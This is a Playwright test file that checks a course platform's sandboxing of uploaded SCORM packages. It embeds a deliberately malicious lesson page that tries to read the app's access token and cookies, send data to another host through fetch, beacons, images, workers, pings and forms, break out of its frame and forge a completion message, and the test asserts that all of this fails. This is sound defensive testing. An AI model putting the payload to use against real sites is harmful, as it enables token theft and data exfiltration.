import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { scormPackage } from '@academy/content-packages/testing';
import { expect, test } from '@playwright/test';
import { createPackagedCourse, startLesson } from './packaged-courses.ts';
import { contentOrigin, origin } from './product.ts';

test.use({ serviceWorkers: 'allow' });

/** A lesson of a package that tries to read data of the web app, and to send requests to another server. */
const attack = (
  elsewhere: string,
  company: string,
) => `<!doctype html><meta charset="utf-8"><title>Attack</title><body>
<p id="report"></p>
<script type="module">
  const gained = {};
  async function attempt(name, work) {
    try {
      const result = await work();
      if (result) gained[name] = String(result).slice(0, 200);
    } catch {}
  }
  for (const [name, target] of [['parent', parent.parent], ['top', top]]) {
    await attempt(name + ' storage', () => target.localStorage.getItem('access-token'));
    await attempt(name + ' document', () => target.document.body.innerHTML);
    await attempt(name + ' cookie', () => target.document.cookie);
    await attempt(name + ' location', () => target.location.href);
  }
  // In tests, both origins have the same host and therefore share the CSRF cookie, which gives no access.
  await attempt('own cookie', () => document.cookie.replace(/XSRF-TOKEN=[^;]*/, ''));
  await attempt('token', () => localStorage.getItem('access-token'));
  await attempt('popup', () => open('${elsewhere}/popup'));
  await attempt('popup of the app', () => open('${origin}/'));
  await attempt('top navigation', () => { top.location = '${elsewhere}/top'; });
  await attempt('form to top', () => {
    const form = Object.assign(document.createElement('form'), { action: '${elsewhere}/form', target: '_top' });
    document.body.append(form);
    form.submit();
  });
  await attempt('form in a frame', () => {
    document.body.append(Object.assign(document.createElement('iframe'), { name: 'sink' }));
    const form = Object.assign(document.createElement('form'), { action: '${elsewhere}/form2', target: 'sink' });
    document.body.append(form);
    form.submit();
  });
  for (const mode of ['cors', 'no-cors'])
    for (const [name, url] of [
      ['api', '${origin}/api/companies/${company}/courses'],
      ['core', '${origin}/core-services/companies'],
      ['own api', '/api/companies/${company}/courses'],
      ['elsewhere', '${elsewhere}/fetch'],
    ])
      await attempt(mode + ' fetch ' + name, async () => {
        const response = await fetch(url, { mode, credentials: 'include' });
        return response.ok || response.type === 'opaque' ? response.type : '';
      });
  await attempt('beacon', () => { navigator.sendBeacon('${elsewhere}/beacon', 'x'); });
  await attempt('image', () => { new Image().src = '${elsewhere}/image?x'; });
  await attempt('style', () => { document.body.style.backgroundImage = "url('${elsewhere}/style')"; });
  await attempt('script', () => { document.body.append(Object.assign(document.createElement('script'), { src: '${elsewhere}/script.js' })); });
  await attempt('frame', () => { document.body.append(Object.assign(document.createElement('iframe'), { src: '${elsewhere}/frame' })); });
  await attempt('frame of the app', async () => {
    const frame = Object.assign(document.createElement('iframe'), { src: '${origin}/en' });
    document.body.append(frame);
    await new Promise((done) => setTimeout(done, 1000));
    return frame.contentWindow.localStorage.getItem('access-token');
  });
  await attempt('link', () => {
    for (const rel of ['prefetch', 'preconnect', 'dns-prefetch', 'stylesheet'])
      document.head.append(Object.assign(document.createElement('link'), { rel, href: '${elsewhere}/link-' + rel }));
  });
  await attempt('event source', () => { new EventSource('${elsewhere}/events'); });
  await attempt('worker', () => {
    new Worker(URL.createObjectURL(new Blob(["fetch('${elsewhere}/worker')"], { type: 'text/javascript' })));
  });
  await attempt('ping', () => {
    const link = Object.assign(document.createElement('a'), { href: '#', ping: '${elsewhere}/ping' });
    document.body.append(link);
    link.click();
  });
  await attempt('service worker', async () => {
    await navigator.serviceWorker.register('worker.js');
    return 'registered';
  });
  for (const scope of ['/', '/content/'])
    await attempt('service worker ' + scope, async () => {
      await navigator.serviceWorker.register('worker.js', { scope });
      return 'registered';
    });
  parent.parent.postMessage({ academy: 'commit', isUrgent: true, commit: {
    state: {}, completion: 'completed', success: 'passed', score: 1 } }, '*');
  document.getElementById('report').textContent = JSON.stringify(gained);
  setTimeout(() => { location = '${elsewhere}/own-navigation?x'; }, 5000);
</script></body>`;

test('a malicious package of a course can read neither the access token nor the data of the web app, and cannot send requests to another server', async ({
  page,
}) => {
  const reached: string[] = [];
  const server = createServer((request, response) => {
    reached.push(request.url ?? '');
    response.writeHead(200, { 'access-control-allow-origin': '*' }).end('');
  });
  await new Promise<void>((listening) => server.listen(0, listening));
  const elsewhere = `http://localhost:${(server.address() as AddressInfo).port}`;
  const company = '0192f000-0000-7000-9000-000000001001';
  const zip = scormPackage({
    files: { 'index.html': attack(elsewhere, company), 'worker.js': 'addEventListener("fetch", () => {})' },
  });
  const course = await createPackagedCourse(page, 'Attack', zip);
  const popups: string[] = [];
  page.on('popup', (popup) => popups.push(popup.url()));
  const requests: string[] = [];
  page.on('request', (request) => requests.push(`${request.method()} ${request.url()}`));

  const lesson = await startLesson(page, course.lessonPath(1));
  await expect(lesson.locator('#report')).toHaveText('{}', { timeout: 60_000 });
  // While the test waits, the lesson tries to leave its frame.
  await page.waitForTimeout(7_000);
  expect(reached).toEqual([]);
  expect(popups).toEqual([]);
  expect(page.url()).toBe(`${origin}${course.lessonPath(1)}`);
  const toPackages = requests.filter((request) => request.includes(contentOrigin));
  expect(toPackages.length).toBeGreaterThan(3);
  expect(toPackages.filter((request) => /ticket|token|cookie|[?&]auth/i.test(request))).toEqual([]);
  // A message that does not come from the player is ignored, even if it comes from the player's origin.
  expect(await course.readCourse()).toMatchObject({ lessons_completed: 0 });

  // The origin of packages serves neither the app nor its APIs, and the origin of the app serves no xAPI for packages.
  for (const path of ['/', '/en', '/api/companies', '/core-services/companies', '/config', '/login'])
    expect((await page.request.get(`${contentOrigin}${path}`)).status(), path).toBe(404);
  expect((await page.request.get(`${origin}/api/xapi/about`)).status()).toBe(404);
  server.closeAllConnections();
  server.close();
});
